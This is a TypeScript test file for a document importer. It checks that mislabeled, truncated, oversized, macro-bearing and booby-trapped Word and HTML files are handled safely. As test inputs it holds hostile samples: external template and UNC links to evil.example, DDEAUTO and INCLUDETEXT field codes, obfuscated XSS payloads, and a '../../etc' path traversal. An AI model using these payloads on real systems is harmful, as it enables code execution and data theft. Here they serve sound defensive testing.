import { strToU8, zipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { parseReport } from '../../server/src/core/index.js';
import { renderProse } from '../../server/src/core/render/prose.js';
import { importFile, type FileImport } from '../../server/src/exchange/importFile.js';
import { docxOf, paragraph } from './support/printDocx.js';
import { base64, png } from './support/pictures.js';
import { xlsxOf } from './support/printXlsx.js';

const TITLE = '某某县水务局2024年政府信息公开工作年度报告';
const html = (body: string): Uint8Array => strToU8(`<!doctype html><h1>${TITLE}</h1>${body}`);
const reason = (result: FileImport): string => (result.ok ? 'imported' : result.message.text.en);

beforeEach(() => {
  vi.stubGlobal('fetch', vi.fn());
  vi.stubGlobal('XMLHttpRequest', vi.fn());
});
afterEach(() => {
  expect(fetch).not.toHaveBeenCalled();
  expect(XMLHttpRequest).not.toHaveBeenCalled();
  vi.unstubAllGlobals();
});

describe('a file that is not what it is called', () => {
  const zipped = docxOf(paragraph(TITLE) + paragraph('正文。'));
  const files: readonly (readonly [string, string, Uint8Array, RegExp])[] = [
    ['a Word file called text', 'a.txt', zipped, /imported/u],
    ['a Word file called a workbook', 'a.xlsx', zipped, /imported/u],
    ['a Word file called .doc', 'a.doc', zipped, /imported/u],
    ['a workbook called a Word file', 'a.docx', xlsxOf([[{ text: TITLE }], [{ text: '正文。' }]]), /imported/u],
    ['a page called a Word file', 'a.docx', html('<p>正文。</p>'), /imported/u],
    ['a text called a page', 'a.html', strToU8(`${TITLE}\n正文。\n`), /imported/u],
    ['a text called a Word file', 'a.docx', strToU8(`${TITLE}\n正文。\n`), /damaged/u],
    ['a picture called a Word file', 'a.docx', png(), /binary data/u],
    ['a PDF called a Word file', 'a.docx', strToU8('%PDF-1.7\n'), /PDF/u],
    ['an old Word file called new', 'a.docx', Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0]), /old or encrypted/u],
    ['RTF called a Word file', 'a.docx', strToU8('{\\rtf1 x}'), /RTF/u],
    ['a program called a page', 'a.html', Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0]), /binary data/u],
    ['a zipped program called a workbook', 'a.xlsx', zipSync({ 'a.exe': strToU8('MZ') }), /zipped/u],
  ];
  test.each(files)('%s', async (_, name, bytes, expected) => {
    expect(reason(await importFile(name, bytes))).toMatch(expected);
  });

  test('is cut off at every length without a crash', async () => {
    const whole = docxOf(paragraph(TITLE), {}, { 'word/media/a.png': png(50, 50) });
    for (let length = 0; length < whole.length; length += 13) {
      expect(reason(await importFile('a.docx', whole.subarray(0, length)))).toMatch(/damaged|empty/u);
    }
  });
});

describe('a file that is too large', () => {
  test.each(['a.docx', 'a.html', 'a.txt', 'a.csv', 'a.xlsx'])('%s of 100 MB is not read', async (name) => {
    const start = name.endsWith('x') ? [0x50, 0x4b, 3, 4] : [];
    const bytes = new Uint8Array(100 * 1024 * 1024).fill(0x41);
    bytes.set(start);
    expect(reason(await importFile(name, bytes))).toMatch(/larger than 20 MB/u);
  });

  test('a picture that unpacks to an absurd size stays in its file; the words are read', async () => {
    const drawing = '<w:p><w:r><w:drawing><w:docPr w:descr="大"/><w:blip r:embed="a"/></w:drawing></w:r></w:p>';
    const bomb = new Uint8Array(80 * 1024 * 1024);
    bomb.set(png());
    const relationships = '<Relationships><Relationship Id="a" Target="media/a.png"/></Relationships>';
    const file = docxOf(
      paragraph(TITLE) + drawing.repeat(50) + paragraph('正文。'),
      { 'word/_rels/document.xml.rels': relationships },
      { 'word/media/a.png': bomb },
    );
    const result = await importFile('a.docx', file, { pictureFolder: 'x' });
    if (!result.ok) throw new Error(reason(result));
    expect(result.pictures).toBeUndefined();
    expect(result.text).toContain('正文。');
    expect(result.notes.map(({ text }) => text)).toEqual(Array.from({ length: 50 }, () => '大'));
  });

  test('words that are nothing but marks of Markdown are read in bounds', async () => {
    const marks = Array.from({ length: 200_000 }, (_, at) => '*_[`~'.charAt(((at * at * 7919) >> 5) % 5)).join('');
    const result = await importFile('a.docx', docxOf(paragraph(TITLE) + paragraph(`${marks}。`)));
    if (!result.ok) throw new Error(reason(result));
    expect(result.text.length).toBeLessThan(marks.length * 2 + 1_000);
  });
});

describe('what a file would run or load', () => {
  test('macros stay in their file, and are named', async () => {
    const word = docxOf(paragraph(TITLE) + paragraph('正文。'), {}, { 'word/vbaProject.bin': strToU8('AutoOpen') });
    const result = await importFile('a.docm', word);
    if (!result.ok) throw new Error(reason(result));
    expect(result.text).not.toContain('AutoOpen');
    expect(result.notes.map(({ kind, text }) => [kind, text])).toEqual([['dropped', 'word/vbaProject.bin']]);
  });

  test('nothing outside of a Word file is fetched', async () => {
    const outside = (id: string, target: string): string =>
      `<Relationship Id="${id}" Target="${target}" TargetMode="External"/>`;
    const relationships = `<Relationships>${outside('t', 'https://evil.example/t.dotm')}${outside('i', 'https://evil.example/i.png')}${outside('f', 'file://evil.example/f')}${outside('s', '\\\\evil.example\\s')}</Relationships>`;
    const body =
      '<w:p><w:r><w:drawing><w:blip r:link="i"/></w:drawing></w:r><w:hyperlink r:id="f"><w:r><w:t>甲</w:t></w:r></w:hyperlink><w:hyperlink r:id="s"><w:r><w:t>乙</w:t></w:r></w:hyperlink></w:p><w:altChunk r:id="t"/><w:subDoc r:id="t"/>' +
      '<w:p><w:r><w:instrText>INCLUDETEXT "https://evil.example/x"</w:instrText></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>';
    const file = docxOf(paragraph(TITLE) + body, {
      'word/_rels/document.xml.rels': relationships,
      'word/settings.xml': '<w:settings><w:attachedTemplate r:id="t"/></w:settings>',
    });
    const result = await importFile('a.docx', file, { pictureFolder: 'x' });
    if (!result.ok) throw new Error(reason(result));
    expect(result.text).not.toContain('evil.example');
    expect(result.text).not.toMatch(/DDE|INCLUDE/u);
    // The embedded document among them: it is left out, and said so.
    expect(result.notes).toHaveLength(4);
  });

  test('a page brings in neither scripts nor addresses that run', async () => {
    const page = html(
      '<script src="https://evil.example/x.js">alert(1)</script><p onclick="alert(1)">正文<a href="javascript:alert(1)">甲</a><a href="JaVa&#10;ScRiPt:alert(1)">乙</a><a href="data:text/html,x">丙</a><a href="vbscript:x">丁</a>。</p>' +
        '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><svg onload="alert(1)"><script>1</script></svg><img src="https://evil.example/a.png" onerror="alert(1)"><p>&lt;script&gt;alert(1)&lt;/script&gt;</p><p>[x](javascript:alert(1))</p><p>![x](https://evil.example/b.png)</p>',
    );
    const result = await importFile('a.html', page, { pictureFolder: 'x' });
    if (!result.ok) throw new Error(reason(result));
    const { blocks } = parseReport(result.text);
    const shown = blocks.flatMap(({ range }) => renderProse(result.text.slice(range.start, range.end), 0));
    // The address in the words is a link as any other; nothing loads it.
    const leads = JSON.stringify(shown).match(/"(?:href|src|dataPicture)":"[^"]*"/gu);
    expect(leads).toEqual(['"href":"https://evil.example/b.png"']);
    expect(blocks.map(({ kind }) => kind)).not.toContain('html');
    expect(result.pictures).toBeUndefined();
  });

  test('a picture is one by its bytes, not by its name or its declared kind', async () => {
    const script = base64(strToU8('<script>alert(1)</script>'));
    const page = html(
      `<p>正文。</p><img src="data:image/png;base64,${script}"><img src="data:text/html;base64,${base64(png())}">`,
    );
    const result = await importFile('a.html', page, { pictureFolder: '../../etc' });
    if (!result.ok) throw new Error(reason(result));
    expect(result.pictures).toEqual([{ name: 'etc/image1.png', bytes: png() }]);
  });
});
